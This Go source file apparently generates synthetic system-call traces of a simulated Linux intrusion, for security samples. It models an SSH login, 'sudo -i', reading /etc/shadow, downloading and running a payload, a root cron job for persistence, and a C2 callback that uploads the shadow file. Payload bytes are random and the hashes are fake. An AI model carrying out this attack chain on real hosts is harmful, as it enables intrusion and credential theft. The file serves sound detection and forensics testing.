package samples

import (
	"encoding/binary"
	"fmt"
	"net/url"
	"path"
	"slices"
	"strings"
	"time"
)

// This file holds the attack, one function per step of the story told in
// the package comment. The attacker types every command: the shells read
// the keys from the terminal and echo them, as bash's readline does.

// incident is the attack.
func (g *gen) incident(w *world) *stream {
	s := g.newStream(streamIncident)
	session := g.sshLogin(s, w.sshd)
	shell := g.loginShell(s, session)
	root := g.sudoRoot(s, shell)
	g.readShadow(s, root)
	g.download(s, root)
	g.extract(s, root)
	chmodTs := g.makeExecutable(s, root)
	g.runPayload(s, root, chmodTs)
	s.write(root, 2, []byte(prompt(root)))
	return s
}

// sshLogin is sshd accepting the attacker's connection and forking the
// session process, which talks SSH up to the authentication.
func (g *gen) sshLogin(s *stream, sshd *proc) *proc {
	f := &g.facts
	s.at(4200 * time.Millisecond)
	s.accept(sshd, 4, f.SSHClient, f.SSHServer, 128)
	session := s.fork(sshd, f.Shell.Pid)
	s.close(sshd, 4)
	s.close(session, 3)
	session.Sid, session.Pgid = session.Pid, session.Pid
	s.write(session, 4, []byte("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n"))
	s.waitAbout(30*time.Millisecond, 60*time.Millisecond)
	s.read(session, 4, []byte("SSH-2.0-OpenSSH_9.6\r\n"), 8192)
	// Key exchange, then public key authentication: binary packets.
	for i, n := range []int{1392, 1080, 44, 564, 16, 52, 92, 600, 48} {
		s.waitAbout(20*time.Millisecond, 300*time.Millisecond)
		pkt := binary.BigEndian.AppendUint32(nil, uint32(n-4))
		pkt = append(pkt, randomBytes(s.rng, snaplen-4)...)
		if i%2 == 0 {
			s.writeN(session, 4, pkt, n)
		} else {
			s.readN(session, 4, pkt, n, 16384)
		}
	}
	return session
}

// loginShell is the session process, once the attacker is authenticated,
// taking deploy's identity and terminal and executing deploy's shell.
func (g *gen) loginShell(s *stream, session *proc) *proc {
	f := &g.facts
	s.at(7850 * time.Millisecond)
	session.setCreds(f.Shell.UID, f.Shell.GID)
	session.LoginUID, session.TTY, session.Cwd = f.Shell.LoginUID, f.TTY, f.Shell.Cwd
	session.Cgroups = cgroups("/user.slice/user-1000.slice/session-7.scope")
	clear(session.fds)
	session.terminal(f.TTYName)
	s.exec(session, image{filename: "/bin/bash", path: f.Shell.ExePath, exe: f.Shell.Exe, comm: f.Shell.Comm,
		env: g.deployEnv(), ctime: installed(), mtime: installed(), vmSize: 8_900, vmRSS: 5_300,
		libs: []string{"libtinfo.so.6", "libc.so.6"}})
	s.startupFiles(session, "/etc/bash.bashrc", "/home/deploy/.bashrc")
	session.fds[255] = fileFD(255, f.TTYName, oRDWR|oCLOEXEC)
	return session
}

// sudoRoot is deploy running `sudo -i`: sudo checks its policy and starts
// root's login shell.
func (g *gen) sudoRoot(s *stream, shell *proc) *proc {
	f := &g.facts
	s.waitAbout(1500*time.Millisecond, 2500*time.Millisecond)
	img := sysBinary(14_600, 5_800, "libaudit.so.1", "libselinux.so.1", "libc.so.6")
	img.setuid = true
	sudo := g.command(s, shell, f.Sudo, img)
	s.openat(sudo, 3, "/etc/sudoers", oRDONLY, 0)
	s.readN(sudo, 3, []byte("#\n# This file MUST be edited with the 'visudo' command as root.\n#\n"), 1714, 4096)
	s.close(sudo, 3)
	s.openat(sudo, 3, "/etc/sudoers.d/deploy", oRDONLY, 0)
	s.read(sudo, 3, []byte("deploy ALL=(ALL) NOPASSWD:ALL\n"), 4096)
	s.close(sudo, 3)
	s.waitAbout(5*time.Millisecond, 15*time.Millisecond)

	root := s.fork(sudo, f.RootShell.Pid)
	root.setCreds(f.RootShell.UID, f.RootShell.GID)
	root.Cwd = f.RootShell.Cwd
	s.exec(root, image{filename: "/bin/bash", path: f.RootShell.ExePath, exe: f.RootShell.Exe,
		comm: f.RootShell.Comm, env: g.rootEnv(), ctime: installed(), mtime: installed(),
		vmSize: 8_900, vmRSS: 5_400, libs: []string{"libtinfo.so.6", "libc.so.6"}})
	s.startupFiles(root, "/etc/bash.bashrc", "/root/.bashrc")
	root.fds[255] = fileFD(255, f.TTYName, oRDWR|oCLOEXEC)
	return root
}

// readShadow is `cat /etc/shadow`.
func (g *gen) readShadow(s *stream, root *proc) {
	f := &g.facts
	s.waitAbout(2*time.Second, 4*time.Second)
	cat := g.command(s, root, f.Cat, sysBinary(5_480, 1_020, "libc.so.6"))
	shadow := fakeShadow()
	s.openat(cat, 3, f.ShadowFile, oRDONLY, 0)
	s.readN(cat, 3, shadow, 1024, 131072)
	s.writeN(cat, 1, shadow, 1024)
	s.read(cat, 3, nil, 131072)
	s.close(cat, 3)
	s.exit(cat, 0)
}

// kitSize and payloadSize are the sizes of the downloaded archive and of
// the program in it.
const (
	kitSize     = 48213
	payloadSize = 96768
)

// download is curl fetching the kit over HTTP into /tmp/.x.
func (g *gen) download(s *stream, root *proc) {
	f := &g.facts
	s.waitAbout(3*time.Second, 5*time.Second)
	curl := g.command(s, root, f.Curl, sysBinary(96_000, 10_400, "libcurl.so.4", "libssl.so.3", "libc.so.6"))
	u, err := url.Parse(f.DownloadURL)
	if err != nil {
		panic(err)
	}
	s.socket(curl, 5)
	s.connect(curl, 5, f.DownloadLocal, f.DownloadServer)
	s.write(curl, 5, []byte(fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n", u.Path, u.Host)))
	s.waitAbout(60*time.Millisecond, 120*time.Millisecond)

	head := fmt.Sprintf("HTTP/1.1 200 OK\r\nServer: nginx\r\nDate: %s\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n",
		time.Unix(0, int64(s.now)).UTC().Format("Mon, 02 Jan 2006 15:04:05 GMT"), kitSize)
	gz := gzipHeader()
	const chunk = 16384
	s.readN(curl, 5, append([]byte(head), gz...), chunk, 102400)
	s.openat(curl, 6, f.KitFile, oWRONLY|oCREAT|oTRUNC, 0o666)
	got := chunk - len(head)
	s.writeN(curl, 6, gz, got)
	for got < kitSize {
		n := min(chunk, kitSize-got)
		s.waitAbout(2*time.Millisecond, 30*time.Millisecond)
		data := randomBytes(s.rng, snaplen)
		s.readN(curl, 5, data, n, 102400)
		s.writeN(curl, 6, data, n)
		got += n
	}
	s.close(curl, 6)
	s.close(curl, 5)
	s.exit(curl, 0)
}

// extract is tar unpacking the kit: it opens the target directory and
// creates the payload relative to it.
func (g *gen) extract(s *stream, root *proc) {
	f := &g.facts
	s.waitAbout(2*time.Second, 3*time.Second)
	tar := g.command(s, root, f.Tar, sysBinary(8_200, 3_100, "libacl.so.1", "libselinux.so.1", "libc.so.6"))
	s.openat(tar, 3, f.KitFile, oRDONLY, 0)
	s.openat(tar, 4, path.Dir(f.PayloadFile), oRDONLY|oDIRECTORY|oCLOEXEC, 0)
	s.openatIn(tar, 5, 4, path.Base(f.PayloadFile), oWRONLY|oCREAT|oEXCL|oCLOEXEC, 0o644)
	const block = 10240
	read, written := 0, 0
	for read < kitSize {
		n := min(block, kitSize-read)
		head := randomBytes(s.rng, snaplen)
		if read == 0 {
			head = gzipHeader()
		}
		s.readN(tar, 3, head, n, block)
		read += n
		for range 2 {
			if written == payloadSize {
				break
			}
			m := min(block, payloadSize-written)
			out := randomBytes(s.rng, snaplen)
			if written == 0 {
				out = elfHeader()
			}
			s.writeN(tar, 5, out, m)
			written += m
		}
	}
	s.close(tar, 5)
	s.close(tar, 4)
	s.close(tar, 3)
	s.exit(tar, 0)
}

// makeExecutable is `chmod 755` of the payload. It returns when the mode
// changed (the payload's ctime).
func (g *gen) makeExecutable(s *stream, root *proc) uint64 {
	f := &g.facts
	s.waitAbout(1500*time.Millisecond, 2500*time.Millisecond)
	chmod := g.command(s, root, f.Chmod, sysBinary(5_500, 1_000, "libc.so.6"))
	changed := s.now
	s.chmod(chmod, f.PayloadFile, 0o755)
	s.exit(chmod, 0)
	return changed
}

// runPayload is the payload at work: it drops a copy of itself below
// /usr/bin, installs a cron job, calls home, removes the kit and exits.
func (g *gen) runPayload(s *stream, root *proc, ctime uint64) {
	f := &g.facts
	s.waitAbout(1*time.Second, 2*time.Second)
	packed := unixNs(time.Date(2026, 11, 25, 22, 10, 0, 0, time.UTC)) // the mtime tar restored
	// A static binary the owner can write: no libraries, EXE_WRITABLE.
	p := g.command(s, root, f.Payload, image{flags: exeWritable, ctime: ctime, mtime: packed, vmSize: 712_000, vmRSS: 9_800})

	s.waitAbout(20*time.Millisecond, 60*time.Millisecond)
	s.openat(p, 3, f.DroppedFile, oWRONLY|oCREAT, 0o755)
	s.writeN(p, 3, elfHeader(), 65536)
	s.writeN(p, 3, randomBytes(s.rng, snaplen), payloadSize-65536)
	s.close(p, 3)

	s.openat(p, 3, f.CronFile, oWRONLY|oCREAT|oTRUNC, 0o644)
	s.write(p, 3, []byte("*/5 * * * * root "+f.DroppedFile+" >/dev/null 2>&1\n"))
	s.close(p, 3)

	s.waitAbout(100*time.Millisecond, 300*time.Millisecond)
	s.socket(p, 3)
	s.connect(p, 3, f.C2Local, f.C2Server)
	s.write(p, 3, []byte(fmt.Sprintf("HELO %s %s uid=0 pid=%d\n", f.Hostname, f.Kernel, f.Payload.Pid)))
	s.waitAbout(100*time.Millisecond, 250*time.Millisecond)
	s.read(p, 3, []byte("OK 300\n"), 4096)
	s.writeN(p, 3, append([]byte("PUT shadow\n"), fakeShadow()...), 1035)

	s.unlinkat(p, f.KitFile)
	s.close(p, 3)
	s.exit(p, 0)
}

// command is the attacker typing the command of fact at shell's prompt
// and bash running it: it forks, puts the child in its own process group
// and the child executes the program (img gives the program's inode and
// memory; fact the rest).
func (g *gen) command(s *stream, shell *proc, fact Proc, img image) *proc {
	s.typeLine(shell, strings.Join(append([]string{fact.Exe}, fact.Args...), " "))
	s.waitAbout(200*time.Microsecond, 600*time.Microsecond)
	child := s.fork(shell, fact.Pid)
	child.Pgid = fact.Pid
	s.waitAbout(100*time.Microsecond, 300*time.Microsecond)
	img.filename, img.path, img.exe, img.args, img.comm = fact.ExePath, fact.ExePath, fact.Exe, fact.Args, fact.Comm
	img.env = append(slices.Clone(shell.Env), "_="+fact.ExePath)
	s.exec(child, img)
	return child
}

// typeLine is the attacker typing line at shell's prompt: bash writes the
// prompt, then reads each key from the terminal (fd 0) and echoes it on
// fd 2, and reads the final return.
func (s *stream) typeLine(shell *proc, line string) {
	s.waitAbout(1*time.Millisecond, 3*time.Millisecond)
	s.write(shell, 2, []byte(prompt(shell)))
	s.waitAbout(300*time.Millisecond, 900*time.Millisecond)
	for i := range len(line) {
		s.waitAbout(50*time.Millisecond, 160*time.Millisecond)
		s.read(shell, 0, []byte{line[i]}, 1)
		s.write(shell, 2, []byte{line[i]})
	}
	s.waitAbout(100*time.Millisecond, 300*time.Millisecond)
	s.read(shell, 0, []byte("\r"), 1)
	s.write(shell, 2, []byte("\r\n"))
}

// prompt is bash's prompt for p.
func prompt(p *proc) string {
	if p.UID == 0 {
		return "root@web-01:~# "
	}
	return "deploy@web-01:~$ "
}

// startupFiles is a login shell reading its startup files: the
// system-wide bashrc, then the user's.
func (s *stream) startupFiles(shell *proc, system, user string) {
	for _, rc := range []struct {
		file, head string
		size       int
	}{
		{system, "# System-wide .bashrc file for interactive bash(1) shells.\n", 2319},
		{user, "# ~/.bashrc: executed by bash(1) for non-login shells.\n", 3526},
	} {
		s.openat(shell, 3, rc.file, oRDONLY, 0)
		s.readN(shell, 3, []byte(rc.head), rc.size, uint32(rc.size))
		s.read(shell, 3, nil, uint32(rc.size))
		s.close(shell, 3)
	}
}

// terminal opens the terminal as stdin, stdout and stderr.
func (p *proc) terminal(tty string) {
	for n := range int64(3) {
		p.fds[n] = fileFD(n, tty, oRDWR)
	}
}

// sysBinary is a program of the distribution.
func sysBinary(vmSize, vmRSS uint32, libs ...string) image {
	return image{ctime: installed(), mtime: installed(), vmSize: vmSize, vmRSS: vmRSS, libs: libs}
}

// deployEnv is the environment of deploy's login shell.
func (g *gen) deployEnv() []string {
	f := &g.facts
	c, sv := f.SSHClient, f.SSHServer
	return []string{
		"LANG=C.UTF-8", "USER=deploy", "LOGNAME=deploy", "HOME=/home/deploy",
		"PATH=/usr/local/bin:/usr/bin:/bin:/usr/games", "SHELL=/bin/bash", "TERM=xterm-256color",
		"MOTD_SHOWN=pam", "MAIL=/var/mail/deploy", "XDG_SESSION_ID=7", "XDG_RUNTIME_DIR=/run/user/1000",
		fmt.Sprintf("SSH_CLIENT=%s %d %d", c.Addr(), c.Port(), sv.Port()),
		fmt.Sprintf("SSH_CONNECTION=%s %d %s %d", c.Addr(), c.Port(), sv.Addr(), sv.Port()),
		"SSH_TTY=" + f.TTYName,
	}
}

// rootEnv is the environment sudo -i gives root's login shell.
func (g *gen) rootEnv() []string {
	return []string{
		"LANG=C.UTF-8", "TERM=xterm-256color", "HOME=/root", "SHELL=/bin/bash", "USER=root", "LOGNAME=root",
		"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "MAIL=/var/mail/root",
		"SUDO_COMMAND=/bin/bash", "SUDO_USER=deploy", "SUDO_UID=1000", "SUDO_GID=1000",
	}
}

// fakeShadow is the beginning of the shadow file: obviously not real.
func fakeShadow() []byte {
	return []byte("root:$6$FAKEsalt$THIS-IS-A-FAKE-HASH-OF-A-SYNTHETIC-SAMPLE-CAPTURE:20418:0:99999:7:::\n" +
		"daemon:*:20418:0:99999:7:::\n" +
		"deploy:$6$FAKEsalt$NOT-A-REAL-PASSWORD-HASH-EITHER:20418:0:99999:7:::\n")
}

// gzipHeader is the beginning of a gzip stream.
func gzipHeader() []byte {
	return []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xed\xbd\x07\x7c\x54\xd5")
}
